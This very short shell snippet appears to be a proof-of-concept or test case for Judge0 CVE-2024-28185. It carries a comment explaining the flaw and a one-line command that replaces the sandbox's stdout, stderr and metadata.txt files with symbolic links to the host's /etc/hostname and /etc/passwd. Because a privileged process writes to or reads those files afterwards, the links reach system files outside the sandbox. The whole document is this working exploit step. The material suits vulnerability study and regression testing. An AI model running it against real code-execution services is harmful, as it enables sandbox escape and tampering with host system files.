# Judge0 CVE-2024-28185: in the place of the run script is a link to a file of the host, and a privileged writer follows it.
# @collect stdout stderr metadata.txt  @brings nothing
rm -f /w/stdout /w/stderr; ln -s /etc/hostname /w/stdout; ln -s /etc/hostname /w/stderr; ln -s /etc/passwd /w/metadata.txt
